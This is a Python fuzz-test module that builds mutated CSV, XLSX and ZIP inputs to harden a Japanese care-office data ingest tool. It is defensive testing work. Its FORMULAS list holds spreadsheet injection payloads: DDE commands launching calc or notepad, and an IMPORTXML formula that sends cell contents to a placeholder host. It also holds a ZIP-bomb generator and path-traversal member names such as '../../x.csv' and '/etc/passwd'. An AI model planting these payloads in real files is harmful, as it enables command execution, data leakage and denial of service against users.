"""Bad input files for the adversarial run (issue 24, point 6): mutations of valid files of every kind.

``case(kind, seed, config)`` builds one file, the same bytes for the same (kind, seed, config) on every
machine: a valid file of the kind (``seeds``: the MHLW open-data CSV in UTF-8 with BOM, plain lists in
CP932, XLSX with title rows, exchange logs in UTF-8 (the DuckDB fast path), CP932, TSV and XLSX, profiles,
and ZIPs, single files and folders of ``UPPLAN_``/``UPJSK_`` CP932 files) is picked, then one mutation of
``MUTATIONS``:

- rows and columns: truncated rows, extra and missing columns, header shuffles, an empty body, thousands of
  columns, many duplicate rows;
- cells: 2–12 MB cells (``Config.big_cell``; smaller in the suite), cells just past the csv module's field
  limit (131,072 characters), spreadsheet formulas (``=cmd|' /C calc'!A0``), broken 和暦 dates, huge numbers,
  negative counts, NUL and control characters, an unclosed quote;
- bytes: truncated files, NUL bytes, random byte flips, mixed encodings (CP932 and UTF-8 rows in one file), a
  BOM that lies, garbage before the table, random bytes;
- archives (an .xlsx is a ZIP too): the sheet XML cut short, flipped compressed bytes, bad CRCs, sizes in the
  directory that lie, a small ZIP bomb, ``../../x.csv`` member names, an unsupported compression method, the
  encryption flag, duplicate and empty archives, an archive cut short;
- exchange-file names (cpds): bad months, equal sender and receiver, bad check digits, full-width and very
  long names.

This is test and benchmark code (``tests/ingest/test_fuzz.py``, ``python -m benchmarks.fuzz``), not part of
the product: nothing under ``analytics/`` imports it.
"""
from __future__ import annotations

import copy
import csv
import datetime
import io
import random
import re
import struct
import zipfile
from dataclasses import dataclass, field, replace

from analytics.domain.codes import office_check_digit

KINDS = ("offices", "registrations", "exchanges", "profiles", "cpds")
KB, MB = 1024, 1024 * 1024
FIXED_TIME = datetime.datetime(2025, 8, 5, 12, 0, 0)
CSV_FIELD_LIMIT = 131_072  # csv.field_size_limit()'s default


@dataclass(frozen=True)
class Config:
    """Sizes of the large mutations. ``LONG`` is the adversarial run's; ``SUITE`` keeps ``make test`` quick."""
    big_cell: tuple[int, int] = (2 * MB, 12 * MB)   # one cell of letters, words or kanji
    wide_cell: tuple[int, int] = (CSV_FIELD_LIMIT + 1, 4 * CSV_FIELD_LIMIT)  # digits past the csv field limit
    bomb_bytes: int = 24 * MB                        # unpacked size of the small ZIP bomb (~24 KB packed)
    many_rows: int = 20_000                          # the duplicate-rows mutation
    many_columns: int = 5_000


LONG = Config()
SUITE = Config(big_cell=(1 * KB, 6 * KB), wide_cell=(CSV_FIELD_LIMIT + 1, CSV_FIELD_LIMIT + 20 * KB),
               bomb_bytes=3 * MB, many_rows=2_000, many_columns=600)


@dataclass(frozen=True)
class Case:
    """One generated input: a file (``name``, ``data``) or, for a cpds folder, ``folder`` = its files."""
    kind: str
    seed: int
    mutation: str
    seed_file: str                       # the valid file it was made from
    name: str
    data: bytes = b""
    folder: tuple[tuple[str, bytes], ...] | None = None

    @property
    def size(self) -> int:
        return len(self.data) if self.folder is None else sum(len(d) for _, d in self.folder)

    def reproducer(self, small: bool = False) -> str:
        return (f"python -m benchmarks.fuzz --kind {self.kind} --seed {self.seed}{' --small' if small else ''} "
                f"--write DIR   # then: careplan ingest {self.kind} DIR/{self.name}")


# ---------------------------------------------------------------- valid files

def office(pref: int, serial: int, klass: str = "7", area: int = 10) -> str:
    code9 = f"{pref:02d}{klass}{area:02d}{serial:04d}"
    return code9 + office_check_digit(code9)


KYOTAKU = [office(30, i) for i in range(1, 7)]
SERVICE = [office(30, i, "1") for i in range(20, 26)]
OPEN_DATA_COLUMNS = [
    "都道府県コード又は市町村コード", "No", "都道府県名", "市区町村名", "事業所名", "事業所名カナ", "サービスの種類",
    "住所", "方書（ビル名等）", "緯度", "経度", "電話番号", "FAX番号", "法人番号", "法人の名称", "事業所番号",
    "利用可能曜日", "利用可能曜日特記事項", "定員", "URL", "高齢者の方と障害者の方が同時一体的に利用できるサービス",
    "介護保険の通常の指定基準を満たしている", "障害福祉の通常の指定基準を満たしている", "備考",
]


@dataclass
class Seed:
    """A valid file before mutation: rows of text cells and how they are written."""
    kind: str
    name: str
    rows: list[list[str]]
    fmt: str = "csv"                    # csv | xlsx | zip | member | folder (the last three: cpds)
    encoding: str = "utf-8-sig"
    delim: str = ","
    title_rows: int = 0                 # xlsx: title lines above the header
    members: list[tuple[str, list[list[str]]]] = field(default_factory=list)  # cpds files
    raw: bool = False                   # written without csv quoting (an unclosed quote stays unclosed)

    @property
    def count_columns(self) -> list[int]:
        """Columns holding counts or numbers (for huge and negative numbers)."""
        names = ("件数", "利用者数", "ケアマネジャー数", "sheets", "users", "care_managers", "緯度", "経度", "No")
        return [i for i, h in enumerate(self.rows[0]) if h in names] if self.rows else []

    @property
    def date_columns(self) -> list[int]:
        names = ("利用開始日", "利用終了日", "対象年月", "month", "registered_on", "ended_on")
        return [i for i, h in enumerate(self.rows[0]) if h in names] if self.rows else []


def _open_data_rows() -> list[list[str]]:
    rows = [OPEN_DATA_COLUMNS]
    for i, code in enumerate(KYOTAKU, 1):
        rows.append(["302015", str(i), "和歌山県", "和歌山市", f"サンプル居宅介護支援事業所{i}", "ｻﾝﾌﾟﾙ", "居宅介護支援",
                     "和歌山市小松原通1-1", "", f"34.2{i}", f"135.1{i}", "073-441-0000", "", "", "社会福祉法人テスト会",
                     code, "月火水木金", "", "", "", "", "", "", ""])
    return rows


def _cpds_rows(users: int, rng: random.Random, header: bool) -> list[list[str]]:
    rows = [["CSVバージョン", "対象年月", "保険者番号", "被保険者番号", "氏名", "フリガナ", "生年月日", "住所"]] if header else []
    for _ in range(users):
        rows.append(["202410", "202508", "302018", f"{rng.randrange(10**10):010d}", "山田太郎", "ヤマダタロウ",
                     "19400101", "和歌山市小松原通一丁目"])
    return rows


def _cpds_name(prefix: str, ym: str, sender: str, receiver: str, stamp: str = "20250805120000") -> str:
    return f"{prefix}_{ym}_{sender}_{receiver}_{stamp}.csv"


def seeds(kind: str, rng: random.Random) -> list[Seed]:
    """The valid files of one kind that mutations start from (new lists: mutations change them in place)."""
    return copy.deepcopy(_seeds(kind, rng))


def _seeds(kind: str, rng: random.Random) -> list[Seed]:
    if kind == "offices":
        plain = [["事業所番号", "事業所名", "サービス種類コード", "都道府県コード", "市区町村コード", "市区町村名"]]
        plain += [[c, f"訪問介護{i}", "11", "30", "30201", "和歌山市"] for i, c in enumerate(SERVICE)]
        plain += [[c, f"居宅{i}", "43", "和歌山県", "302015", "和歌山市"] for i, c in enumerate(KYOTAKU)]
        return [Seed(kind, "jigyosho_430.csv", _open_data_rows()),
                Seed(kind, "事業所一覧.csv", plain, encoding="cp932"),
                Seed(kind, "offices.xlsx", plain, fmt="xlsx", title_rows=1)]
    if kind == "registrations":
        dates = ["令和5年10月5日", "2024/4/1", "2023-10-05", "R5.10.5", "H31.4.1", "2025-01-31"]
        rows = [["事業所番号", "利用開始日", "利用終了日"]]
        rows += [[c, d, "" if i % 3 else "令和7年3月31日"] for i, (c, d) in enumerate(zip(KYOTAKU + SERVICE, dates * 2))]
        named = [["事業所番号", "事業所名", "利用開始日", "都道府県"]]
        named += [[c, f"事業所{i}", d, "和歌山県"] for i, (c, d) in enumerate(zip(SERVICE, dates))]
        return [Seed(kind, "registrations_2025-08-31.csv", rows),
                Seed(kind, "登録事業所一覧.csv", named, encoding="cp932"),
                Seed(kind, "登録事業所一覧.xlsx", rows, fmt="xlsx", title_rows=2)]
    if kind == "exchanges":
        rows = [["対象年月", "送信元事業所番号", "送信先事業所番号", "帳票", "送信方法", "件数"]]
        for i, s in enumerate(KYOTAKU):
            for j, r in enumerate(SERVICE[:3]):
                rows.append([f"2025-0{7 + (i + j) % 2}", s, r, ["予定", "実績", "第1表"][j],
                             ["データ連携", "FAX", "郵送", "メール"][(i + j) % 4], str(1 + (i * 7 + j) % 13)])
        wareki = [rows[0]] + [[("令和7年8月" if r[0].endswith("8") else "R7.7")] + r[1:] for r in rows[1:]]
        plain = [r[:] for r in rows]
        plain[0] = ["month", "sender_code", "receiver_code", "form", "channel", "sheets"]
        return [Seed(kind, "exchanges_2025-07_08.csv", plain, encoding="utf-8"),  # DuckDB's fast path
                Seed(kind, "送受信記録.csv", wareki, encoding="cp932"),
                Seed(kind, "exchanges.tsv", rows, encoding="utf-8-sig", delim="\t"),
                Seed(kind, "exchanges.xlsx", rows, fmt="xlsx")]
    if kind == "profiles":
        rows = [["事業所番号", "対象年月", "利用者数", "ケアマネジャー数"]]
        rows += [[c, "2025-08", str(20 + i), str(1 + i % 4)] for i, c in enumerate(KYOTAKU)]
        return [Seed(kind, "profiles.csv", rows), Seed(kind, "profiles.xlsx", rows, fmt="xlsx"),
                Seed(kind, "利用者数.csv", rows, encoding="cp932")]
    if kind == "cpds":
        members = []
        for i, s in enumerate(KYOTAKU[:3]):
            for j, r in enumerate(SERVICE[:2]):
                members.append((_cpds_name(["UPPLAN", "UPJSK"][j], "202508", s, r, f"2025080{i + 1}12000{j}"),
                                _cpds_rows(1 + (i + j) % 4, rng, header=(i + j) % 2 == 0)))
        one = members[:1]
        return [Seed(kind, "2025-08_送受信.zip", [], fmt="zip", encoding="cp932", members=members),
                Seed(kind, one[0][0], [], fmt="member", encoding="cp932", members=one),
                Seed(kind, "送受信フォルダ", [], fmt="folder", encoding="cp932", members=members[:4])]
    raise ValueError(kind)


# ---------------------------------------------------------------- writing

def csv_text(rows: list[list[str]], delim: str = ",", quoting: bool = True) -> str:
    if not quoting:
        return "".join(delim.join(r) + "\r\n" for r in rows)
    buf = io.StringIO()
    csv.writer(buf, delimiter=delim, lineterminator="\r\n").writerows(rows)
    return buf.getvalue()


def encode(text: str, encoding: str) -> bytes:
    return text.encode(encoding, errors="replace")


def xlsx_bytes(rows: list[list[str]], title_rows: int = 0) -> bytes:
    import openpyxl
    from openpyxl.utils.exceptions import IllegalCharacterError
    wb = openpyxl.Workbook()
    ws = wb.active
    for i in range(title_rows):
        ws.append([f"令和7年8月末 事業所一覧 {i + 1}"])
    for r in rows:
        try:
            ws.append(r)
        except IllegalCharacterError:  # control characters cannot be written by openpyxl
            ws.append(["".join(ch for ch in c if ch >= " " or ch in "\t\n\r") for c in r])
    wb.properties.created = FIXED_TIME
    buf = io.BytesIO()
    wb.save(buf)
    # openpyxl stamps the save time (docProps/core.xml, member dates): written again with fixed ones
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        files = [(i.filename, z.read(i)) for i in z.infolist()]
    stamp = re.compile(rb"(<dcterms:modified[^>]*>)[^<]*")
    return zip_bytes([(n, stamp.sub(rb"\g<1>2025-08-05T12:00:00Z", d) if n == "docProps/core.xml" else d)
                      for n, d in files])


def zip_bytes(files: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    import warnings
    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w", method) as z:
        warnings.simplefilter("ignore")  # "Duplicate name" from zipfile: duplicates are one of the mutations
        for name, data in files:
            z.writestr(zipfile.ZipInfo(name, (2025, 8, 5, 12, 0, 0)), data, compress_type=method)
    return buf.getvalue()


def member_files(seed: Seed) -> list[tuple[str, bytes]]:
    return [(n, encode(csv_text(rows), seed.encoding)) for n, rows in seed.members]


def render(seed: Seed, quoting: bool = True) -> Case:
    """The seed written as its format (kind, seed and mutation are filled in by ``case``)."""
    def made(name, data=b"", folder=None):
        return Case(seed.kind, 0, "", seed.name, name, data, folder)
    if seed.fmt == "xlsx":
        return made(seed.name, xlsx_bytes(seed.rows, seed.title_rows))
    if seed.fmt == "zip":
        return made(seed.name, zip_bytes(member_files(seed)))
    if seed.fmt == "member":
        (name, data), = member_files(seed)
        return made(name, data)
    if seed.fmt == "folder":
        return made(seed.name, folder=tuple(member_files(seed)))
    return made(seed.name, encode(csv_text(seed.rows, seed.delim, quoting), seed.encoding))


# ---------------------------------------------------------------- row and cell mutations

def _grids(seed: Seed) -> list[list[list[str]]]:
    """The row lists a grid mutation may change: the table, or each cpds file's rows."""
    return [rows for _, rows in seed.members] if seed.kind == "cpds" else [seed.rows]


def _body_cell(rng: random.Random, rows: list[list[str]], columns: list[int] | None = None) -> tuple[int, int]:
    r = rng.randrange(1, len(rows)) if len(rows) > 1 else 0
    cols = [c for c in (columns or range(len(rows[r]))) if c < len(rows[r])] or [0]
    if not rows[r]:
        rows[r].append("")
    return r, rng.choice(cols)


def _set_cells(rng, seed: Seed, values, columns: list[int] | None = None, k: tuple[int, int] = (1, 4)) -> None:
    for rows in _grids(seed):
        if not rows:
            continue
        for _ in range(rng.randint(*k)):
            r, c = _body_cell(rng, rows, columns)
            rows[r][c] = values() if callable(values) else rng.choice(values)


def m_truncated_rows(rng, seed, cfg):
    for rows in _grids(seed):
        for r in rng.sample(range(len(rows)), k=min(len(rows), rng.randint(1, 4))):
            rows[r] = rows[r][:rng.randrange(len(rows[r]) + 1)]
            if rng.random() < 0.3 and rows[r]:  # cut in the middle of a cell too
                rows[r][-1] = rows[r][-1][:rng.randrange(len(rows[r][-1]) + 1)]


def m_extra_columns(rng, seed, cfg):
    extra = rng.choice([["備考"], ["氏名", "被保険者番号"], ["事業所番号"], [""], ["件数", "メモ"], ["x"] * 30])
    for rows in _grids(seed):
        only_data = rng.random() < 0.4
        for i, r in enumerate(rows):
            if i == 0 and not only_data:
                r.extend(extra)
            elif i:
                r.extend(rng.choice(["", "山田 太郎", "1", "=1+1", "x"]) for _ in extra)


def m_missing_column(rng, seed, cfg):
    for rows in _grids(seed):
        width = max((len(r) for r in rows), default=0)
        if not width:
            continue
        drop = sorted(rng.sample(range(width), k=rng.randint(1, min(3, width))), reverse=True)
        header_only = rng.random() < 0.3
        for i, r in enumerate(rows):
            if i and header_only:
                continue
            for c in drop:
                if c < len(r):
                    del r[c]


def m_header_shuffle(rng, seed, cfg):
    for rows in _grids(seed):
        if not rows:
            continue
        order = list(range(len(rows[0])))
        rng.shuffle(order)
        mode = rng.choice(["consistent", "header only", "header twice", "header late"])
        if mode == "consistent":
            rows[:] = [[r[c] if c < len(r) else "" for c in order] for r in rows]
        elif mode == "header only":
            rows[0] = [rows[0][c] for c in order]
        elif mode == "header twice":
            rows.insert(rng.randrange(1, len(rows) + 1), list(rows[0]))
        else:  # the header after the header-scan window (MAX_HEADER_SCAN = 20)
            rows[:0] = [[f"注記{i}"] for i in range(rng.choice([19, 20, 21, 40]))]


def m_empty_body(rng, seed, cfg):
    for rows in _grids(seed):
        del rows[rng.choice([0, 1]):]
        if rng.random() < 0.3:
            rows.extend([[""] * 3, [], [" ", "\u3000"]])


def m_many_columns(rng, seed, cfg):
    for rows in _grids(seed):
        for r in rows:
            r.extend(str(i) for i in range(cfg.many_columns))


def m_duplicate_rows(rng, seed, cfg):
    for rows in _grids(seed):
        if len(rows) > 1:
            body = rows[1:]
            rows[1:] = [list(body[i % len(body)]) for i in range(cfg.many_rows)]


def _big_text(rng: random.Random, n: int) -> str:
    style = rng.choice(["letters", "words", "kanji", "letters", "digits", "commas"])
    unit = {"letters": "abcdefgh", "words": "Yamada Taro ", "kanji": "山田太郎様", "digits": "0123456789",
            "commas": "a,b\tc;"}[style]
    return (unit * (n // len(unit) + 1))[:n]


def m_big_cell(rng, seed, cfg):
    n = rng.randint(*cfg.big_cell)
    for rows in _grids(seed)[:1]:
        if rows:
            r, c = _body_cell(rng, rows)
            rows[r][c] = _big_text(rng, n)


def m_wide_cell(rng, seed, cfg):
    """A cell just past the csv module's field limit, no quote anywhere."""
    n = rng.randint(*cfg.wide_cell)
    for rows in _grids(seed)[:1]:
        if rows:
            r, c = (0, 0) if rng.random() < 0.2 else _body_cell(rng, rows)
            rows[r][c] = ("3071000016" * (n // 10 + 1))[:n]


FORMULAS = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.invalid\",\"x\")", "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C notepad'!'A1'", "@SUM(1+1)", "=1/0", "=A1", "\t=1+1", "=\"3071000016\"", "=3071000016",
            "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"]


def m_formula(rng, seed, cfg):
    _set_cells(rng, seed, FORMULAS, k=(1, 8))
    if rng.random() < 0.3 and seed.rows:
        seed.rows[0][rng.randrange(len(seed.rows[0]))] = rng.choice(FORMULAS)


BROKEN_WAREKI = ["令和0年1月1日", "令和99年13月32日", "平成31年5月1日", "平成32年1月1日", "昭和64年1月8日",
                 "昭和65年1月1日", "明治1年1月1日", "明治0年", "大正15年12月26日", "R5.2.30", "R.5.10.5", "R5..10",
                 "令和元年4月30日", "令和元年5月1日", "平成元年1月7日", "㋿5年10月5日", "令和五年十月五日", "令和5年",
                 "令和7年2月29日", "H31.04.31", "S64.1.8", "M45.7.30", "T1.7.29", "令和-1年1月1日", "令和5年0月0日",
                 "令和９９９９９９９９９年1月1日", "R99999999999.1.1", "令5.10.5", "れいわ5年10月5日", "9999-12-31",
                 "0000-00-00", "2023-10-05T25:00", "45000", "-45000", "1e9", "2023/02/30", "30/2/2023", "令和7年8月",
                 "202513", "2025/0", "令和7年13月", "R7.0"]


def m_broken_wareki(rng, seed, cfg):
    if seed.kind == "cpds":  # the month inside the files is not read; the one in the names is
        seed.members[:] = [(n.replace("_202508_", f"_{rng.choice(['202513', '000000', '999912', '190001'])}_"), r)
                           for n, r in seed.members]
        return
    _set_cells(rng, seed, BROKEN_WAREKI, seed.date_columns or None, k=(1, 6))


HUGE = ["99999999999999999999999999", "1e400", "-1e400", "9.9e99", "１２３４５６７８９０１２３４５６７８９０", "inf", "NaN",
        "9223372036854775808", "18446744073709551616", "2147483648", "1,000,000,000,000", "0x7fffffff", "1_000",
        "٣٣", "¹²", "Ⅻ", "⑫", "1.5", "0.0000001", "1e-400"]
NEGATIVE = ["-1", "-999999999", "−3", "▲5", "△2", "(4)", "-0", "－１", "- 1", "-9223372036854775809"]


def m_huge_number(rng, seed, cfg):
    _set_cells(rng, seed, HUGE, seed.count_columns or None, k=(1, 6))


def m_negative_count(rng, seed, cfg):
    _set_cells(rng, seed, NEGATIVE, seed.count_columns or None, k=(1, 6))


def m_nul_cells(rng, seed, cfg):
    _set_cells(rng, seed, lambda: rng.choice(["\x00", "3071\x0000016", "\x00" * 50, "a\x00b"]), k=(1, 5))


CONTROL = ["\x1a", "\u2028", "\u2029", "\ufeff", "\r", "a\rb", "\x0b", "\x1b[31m", "\ud7ff", "\ue000", "\U0010fffd",
           "\u202e", "\u200b", "\x85", "\n", "a\nb"]


def m_control_chars(rng, seed, cfg):
    _set_cells(rng, seed, lambda: rng.choice(CONTROL) + rng.choice(["", "3071000016", "予定"]), k=(1, 6))


def m_unclosed_quote(rng, seed, cfg):
    _set_cells(rng, seed, ['"', '"abc', 'ab"c', '""', '"a""', '=""', '"3071000016'], k=(1, 2))
    seed.raw = True


ROW_MUTATIONS = {
    "truncated_rows": m_truncated_rows, "extra_columns": m_extra_columns, "missing_column": m_missing_column,
    "header_shuffle": m_header_shuffle, "empty_body": m_empty_body, "many_columns": m_many_columns,
    "duplicate_rows": m_duplicate_rows, "big_cell": m_big_cell, "wide_cell": m_wide_cell, "formula": m_formula,
    "broken_wareki": m_broken_wareki, "huge_number": m_huge_number, "negative_count": m_negative_count,
    "nul_cells": m_nul_cells, "control_chars": m_control_chars, "unclosed_quote": m_unclosed_quote,
}


# ---------------------------------------------------------------- byte mutations (the written file)

def b_truncated_file(rng, data: bytes) -> bytes:
    return data[:rng.randrange(len(data) + 1)] if data else data


def b_byte_flips(rng, data: bytes) -> bytes:
    out = bytearray(data)
    for _ in range(rng.randint(1, 1 + len(out) // 200)) if out else ():
        out[rng.randrange(len(out))] ^= 1 << rng.randrange(8)
    return bytes(out)


def b_nul_bytes(rng, data: bytes) -> bytes:
    out = bytearray(data)
    for _ in range(rng.randint(1, 20)):
        pos = rng.randrange(len(out) + 1)
        out[pos:pos] = b"\x00" * rng.choice([1, 1, 2, 100])
    return bytes(out)


def b_garbage_prefix(rng, data: bytes) -> bytes:
    junk = rng.choice([bytes(rng.randrange(256) for _ in range(rng.randint(1, 64))), b"\xef\xbb\xbf\xef\xbb\xbf",
                       b"\xff\xfe", b"\xfe\xff", b"PK\x03\x04", b"PAR1", b"\xd0\xcf\x11\xe0", b"%PDF-1.4\n"])
    return junk + data


def b_random_bytes(rng, data: bytes) -> bytes:
    return bytes(rng.randrange(256) for _ in range(rng.randint(0, 4096)))


BYTE_MUTATIONS = {"truncated_file": b_truncated_file, "byte_flips": b_byte_flips, "nul_bytes": b_nul_bytes,
                  "garbage_prefix": b_garbage_prefix, "random_bytes": b_random_bytes}


def mixed_text(rng, rows: list[list[str]], delim: str = ",") -> bytes:
    """CP932 and UTF-8 rows in one file (a list pasted together from two sources), maybe a BOM too."""
    cut = rng.randint(1, max(1, len(rows)))
    first, second = rng.sample(["utf-8", "cp932"], 2)
    bom = b"\xef\xbb\xbf" if rng.random() < 0.4 else b""
    return bom + encode(csv_text(rows[:cut], delim), first) + encode(csv_text(rows[cut:], delim), second)


def lying_bom(rng, rows: list[list[str]], delim: str = ",") -> bytes:
    bom, enc = rng.choice([(b"\xef\xbb\xbf", "cp932"), (b"\xff\xfe", "utf-8"), (b"\xfe\xff", "cp932"),
                           (b"", "utf-16-le"), (b"", "euc_jp"), (b"\xef\xbb\xbf", "utf-16")])
    return bom + encode(csv_text(rows, delim), enc)


# ---------------------------------------------------------------- archive mutations (.xlsx and .zip)

def _entries(data: bytes):
    """(offset of the local header, offset of the central header) for each member of a well-formed ZIP."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        infos = z.infolist()
    eocd = data.rfind(b"PK\x05\x06")
    cd_offset = struct.unpack_from("<I", data, eocd + 16)[0]
    out, pos = [], cd_offset
    for info in infos:
        n, m, k = struct.unpack_from("<HHH", data, pos + 28)
        out.append((info, info.header_offset, pos))
        pos += 46 + n + m + k
    return out


def _pick(rng, entries, prefer: str = ""):
    chosen = [e for e in entries if prefer and prefer in e[0].filename] or entries
    return rng.choice(chosen)


def _main_member(case: Case) -> str:
    return "xl/worksheets/sheet1.xml" if case.name.lower().endswith(".xlsx") else ""


def z_cut_member(rng, case: Case) -> bytes:
    """One member (the sheet XML of an .xlsx) cut short and the archive written again (CRCs fine)."""
    with zipfile.ZipFile(io.BytesIO(case.data)) as z:
        files = [(i.filename, z.read(i)) for i in z.infolist()]
    target = _main_member(case) or rng.choice(files)[0]
    files = [(n, d[:rng.randrange(len(d) + 1)] if n == target else d) for n, d in files]
    return zip_bytes(files)


def z_flip_compressed(rng, case: Case) -> bytes:
    out = bytearray(case.data)
    info, local, _ = _pick(rng, _entries(case.data), _main_member(case))
    n, m = struct.unpack_from("<HH", out, local + 26)
    start = local + 30 + n + m
    for _ in range(rng.randint(1, 8)):
        if info.compress_size:
            out[start + rng.randrange(info.compress_size)] ^= 1 << rng.randrange(8)
    return bytes(out)


def z_bad_crc(rng, case: Case) -> bytes:
    out = bytearray(case.data)
    info, local, central = _pick(rng, _entries(case.data), _main_member(case))
    crc = struct.pack("<I", (info.CRC ^ (1 + rng.randrange(2**32 - 1))) & 0xFFFFFFFF)
    out[local + 14:local + 18] = crc
    out[central + 16:central + 20] = crc
    return bytes(out)


def z_lying_sizes(rng, case: Case) -> bytes:
    out = bytearray(case.data)
    info, local, central = _pick(rng, _entries(case.data), _main_member(case))
    which = rng.choice(["file_size", "compress_size", "both"])
    fake = rng.choice([0, 1, info.file_size // 2, info.file_size * 3 + 1, 2**32 - 1, 50 * MB])
    for base, off in ((local, 18), (central, 20)):
        if which in ("compress_size", "both"):
            struct.pack_into("<I", out, base + off, min(fake, 2**32 - 1))
        if which in ("file_size", "both"):
            struct.pack_into("<I", out, base + off + 4, min(fake, 2**32 - 1))
    return bytes(out)


def z_method(rng, case: Case) -> bytes:
    """An unsupported or wrong compression method (99 = AES, 12 = bzip2 on deflated bytes, 14 = lzma …)."""
    out = bytearray(case.data)
    info, local, central = _pick(rng, _entries(case.data), _main_member(case))
    method = rng.choice([99, 12, 14, 1, 6, 9, 0])
    struct.pack_into("<H", out, local + 8, method)
    struct.pack_into("<H", out, central + 10, method)
    return bytes(out)


def z_encrypted_flag(rng, case: Case) -> bytes:
    out = bytearray(case.data)
    info, local, central = _pick(rng, _entries(case.data), _main_member(case))
    for pos in (local + 6, central + 8):
        struct.pack_into("<H", out, pos, struct.unpack_from("<H", out, pos)[0] | 1)
    return bytes(out)


def z_bomb(rng, case: Case, cfg: Config) -> bytes:
    """A small archive bomb: a member of zeros (or repeated rows) that deflates ~1000-fold."""
    with zipfile.ZipFile(io.BytesIO(case.data)) as z:
        files = [(i.filename, z.read(i)) for i in z.infolist()]
    target = _main_member(case) or _cpds_name("UPPLAN", "202508", KYOTAKU[0], SERVICE[5])
    filler = rng.choice([b"\x00", b" ", b"302018,0000012345,\r\n"])
    bomb = (filler * (cfg.bomb_bytes // len(filler) + 1))[:cfg.bomb_bytes]
    if target.endswith(".xml"):  # the sheet XML padded with white space: still valid XML
        files = [(n, d + bomb.replace(b"\x00", b" ")[:cfg.bomb_bytes] if n == target else d) for n, d in files]
    else:
        files.append((target, bomb))
    if rng.random() < 0.3:  # and many small members
        files += [(f"pad/{i:05d}.txt", b"") for i in range(rng.choice([1000, 5000]))]
    return zip_bytes(files)


TRAVERSAL = ["../../x.csv", "/etc/passwd", "C:\\Windows\\x.csv", "..\\..\\x.csv", "a/../../../x.csv",
             "UPPLAN_202508_{s}_{r}_20250805120000.csv/../../evil.csv", "../../UPPLAN_202508_{s}_{r}_1.csv",
             "./UPPLAN_202508_{s}_{r}_2.csv", "__MACOSX/../UPPLAN_202508_{s}_{r}_3.csv", "", "/", "a" * 300 + ".csv",
             "nul\x00.csv", "UPPLAN_202508_{s}_{r}_4.csv\x00.exe"]


def z_traversal(rng, case: Case) -> bytes:
    with zipfile.ZipFile(io.BytesIO(case.data)) as z:
        files = [(i.filename, z.read(i)) for i in z.infolist()]
    for _ in range(rng.randint(1, 3)):
        name = rng.choice(TRAVERSAL).format(s=KYOTAKU[4], r=SERVICE[4])
        if rng.random() < 0.5:  # renaming an existing member (the sheet of an .xlsx breaks)
            i = rng.randrange(len(files))
            files[i] = (name, files[i][1])
        else:
            files.append((name, rng.choice(files)[1]))
    import warnings
    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        warnings.simplefilter("ignore")  # "Duplicate name" from zipfile
        for name, data in files:
            info = zipfile.ZipInfo("x", (2025, 8, 5, 12, 0, 0))
            info.filename = name  # as written: ZipInfo() would clean the name of NULs and drive letters
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buf.getvalue()


def z_duplicates_or_empty(rng, case: Case) -> bytes:
    with zipfile.ZipFile(io.BytesIO(case.data)) as z:
        files = [(i.filename, z.read(i)) for i in z.infolist()]
    mode = rng.choice(["empty", "duplicate", "directories only", "nested zip"])
    if mode == "empty":
        files = []
    elif mode == "duplicate":
        files += [(n, d[: len(d) // 2]) for n, d in rng.sample(files, k=min(2, len(files)))]
    elif mode == "directories only":
        files = [("dir/", b""), ("dir/sub/", b"")]
    else:
        files = [("inner.zip", zip_bytes(files))]
    return zip_bytes(files)


def z_cut_archive(rng, case: Case) -> bytes:
    eocd = case.data.rfind(b"PK\x05\x06")
    cut = rng.choice([eocd, eocd + 10, rng.randrange(len(case.data)), len(case.data) - 1])
    return case.data[:max(cut, 4)]


ARCHIVE_MUTATIONS = {"zip_cut_member": z_cut_member, "zip_flip_compressed": z_flip_compressed,
                     "zip_bad_crc": z_bad_crc, "zip_lying_sizes": z_lying_sizes, "zip_method": z_method,
                     "zip_encrypted_flag": z_encrypted_flag, "zip_bomb": z_bomb, "zip_traversal": z_traversal,
                     "zip_duplicates_or_empty": z_duplicates_or_empty, "zip_cut_archive": z_cut_archive}


# ---------------------------------------------------------------- exchange-file names (cpds)

def m_member_names(rng, seed, cfg):
    def bad(name: str) -> str:
        prefix, ym, s, r, stamp = name[:-4].split("_")
        choice = rng.choice(["same", "digit", "month", "wide", "long", "case", "no stamp", "extension", "personal",
                             "short code", "other prefix"])
        if choice == "same":
            r = s
        elif choice == "digit":
            s = s[:9] + str((int(s[9]) + 1) % 10) if s[9].isdigit() else s[:9] + "0"
        elif choice == "month":
            ym = rng.choice(["202513", "000000", "999999", "190001", "20250", "２０２５０８"])
        elif choice == "wide":
            return name.translate(str.maketrans("0123456789_UPLAN", "０１２３４５６７８９＿ＵＰＬＡＮ"))
        elif choice == "long":
            stamp = "9" * rng.choice([15, 200])
        elif choice == "case":
            prefix = prefix.lower()
        elif choice == "no stamp":
            return f"{prefix}_{ym}_{s}_{r}.csv"
        elif choice == "extension":
            return name[:-4] + rng.choice([".CSV", ".txt", ".csv.bak", ""])
        elif choice == "personal":
            return f"山田太郎様分_{ym}.csv"
        elif choice == "short code":
            s = s[:8]
        else:
            prefix = rng.choice(["UPKYU", "DLPLAN", "UP"])
        return f"{prefix}_{ym}_{s}_{r}_{stamp}.csv"
    k = rng.randint(1, len(seed.members))
    for i in rng.sample(range(len(seed.members)), k=k):
        seed.members[i] = (bad(seed.members[i][0]), seed.members[i][1])


# ---------------------------------------------------------------- cases

def mutations(kind: str) -> list[str]:
    """The mutations that apply to a kind (every kind has XLSX or ZIP seeds, so all archive ones apply)."""
    names = list(ROW_MUTATIONS) + ["mixed_encoding", "lying_bom"] + list(BYTE_MUTATIONS) + list(ARCHIVE_MUTATIONS)
    return names + (["member_names"] if kind == "cpds" else [])


MUTATIONS = {kind: mutations(kind) for kind in KINDS}


def mutation_of(kind: str, seed: int) -> str:
    """The mutation ``case(kind, seed)`` applies when none is named."""
    return random.Random(f"{kind}:{seed}").choice(MUTATIONS[kind])


